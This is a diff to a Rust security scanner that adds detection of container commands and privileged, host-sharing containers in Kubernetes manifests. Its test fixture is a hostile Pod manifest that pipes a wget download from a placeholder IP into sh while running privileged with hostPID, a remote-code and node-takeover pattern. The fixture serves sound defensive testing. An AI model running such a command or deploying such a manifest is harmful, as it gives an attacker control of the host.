@@ -15,6 +15,7 @@
 //! | `build.rs`, proc-macro crates | `Command::new`, sockets, secret reads | every `cargo build` |
 //! | `tox.ini` | `commands` | `tox` |
 //! | `*.go` | `//go:generate` lines | `go generate` |
+//! | Kubernetes manifests | containers' `command`; privileged host access | `kubectl apply` |
 //! | `.gitconfig`, `.git/config` | command-valued keys; `insteadOf` rewrites | every git command |
 //!
 //! Commands are scanned as shell by [`auto_run`]; every reader is one pass
@@ -46,6 +47,9 @@ pub(crate) fn scan(ctx: &mut Ctx<'_>, unit: &Unit<'_>, name: &str, folder: &str)
             taskfile(ctx, unit);
         }
         _ if yaml && is_workflow(unit.text) => crate::toolfiles::workflow(ctx, unit),
+        _ if yaml && unit.text.contains("containers:") && unit.text.contains("kind:") => {
+            kube(ctx, unit);
+        }
         _ if yaml && name.contains("compose") => crate::toolfiles::compose(ctx, unit),
         _ if name.starts_with("dockerfile.")
             || name.starts_with("containerfile.")
@@ -144,6 +148,65 @@ pub(crate) fn docker_steps(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
             }
             _ => {}
         }
+    }
+}
+
+/// A Kubernetes manifest: each container's `command` and `args` (a flow
+/// list of words, or a plain line), run when the manifest is applied; and
+/// a privileged container that shares the host's processes or mounts its
+/// root, which owns the node.
+fn kube(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
+    let text = unit.text;
+    let mut at = 0;
+    let mut privileged = None;
+    for line in text.split_inclusive('\n') {
+        let start = at;
+        at += line.len();
+        let item = line.trim().trim_start_matches("- ").trim_start();
+        if privileged.is_none() && item.starts_with("privileged: true") {
+            privileged = Some(start..at);
+        }
+        let Some(value) = item
+            .strip_prefix("command:")
+            .or_else(|| item.strip_prefix("args:"))
+        else {
+            continue;
+        };
+        let value = value.trim();
+        let command = match value.strip_prefix('[') {
+            Some(list) => {
+                let words: Vec<&str> = literals(list).into_iter().map(|(_, w)| w).collect();
+                command_of(&words)
+            }
+            None if !value.is_empty() && !value.starts_with(['|', '>']) => {
+                value.trim_matches(['"', '\'']).to_string()
+            }
+            None => continue,
+        };
+        let offset = start + line.find(value).unwrap_or(0);
+        auto_run(
+            ctx,
+            unit,
+            offset,
+            &command,
+            Run::Tool,
+            "a container's command (run when the manifest is applied)",
+        );
+    }
+    let host = text.contains("hostPID: true")
+        || text
+            .lines()
+            .any(|l| matches!(l.trim(), "path: /" | "path: \"/\"" | "path: '/'"));
+    if let Some(range) = privileged
+        && host
+    {
+        ctx.report(
+            unit,
+            id::SandboxEscape,
+            Severity::High,
+            range,
+            "a privileged container sharing the host's processes or mounting its root folder: whatever runs in it owns the node".into(),
+        );
     }
 }
 
@@ -665,6 +728,17 @@ mod tests {
             "gen.go",
             "package x\n//go:generate stringer -type=Kind\n"
         ));
+    }
+
+    #[test]
+    fn kubernetes_manifests() {
+        let bad = "kind: Pod\nspec:\n  hostPID: true\n  containers:\n    - name: t\n      securityContext:\n        privileged: true\n      command: [\"sh\", \"-c\", \"wget -qO- http://198.51.100.39/n | sh\"]\n";
+        assert_eq!(
+            worst("assets/debug.yaml", bad).map(|w| w.1),
+            Some(Severity::Critical)
+        );
+        let good = "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: web\n          image: nginx\n          command: [\"nginx\", \"-g\", \"daemon off;\"]\n";
+        assert!(!flagged("k8s/web.yaml", good));
     }
 
     #[test]
